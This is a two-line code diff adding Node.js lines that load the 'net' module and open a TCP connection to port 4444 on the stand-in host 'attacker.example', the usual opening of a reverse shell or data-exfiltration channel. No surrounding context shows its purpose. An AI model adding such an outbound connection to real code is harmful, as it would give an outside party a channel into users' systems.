@@ -1,0 +1,2 @@
+const net = require('net');
+const s = net.connect(4444, 'attacker.example');
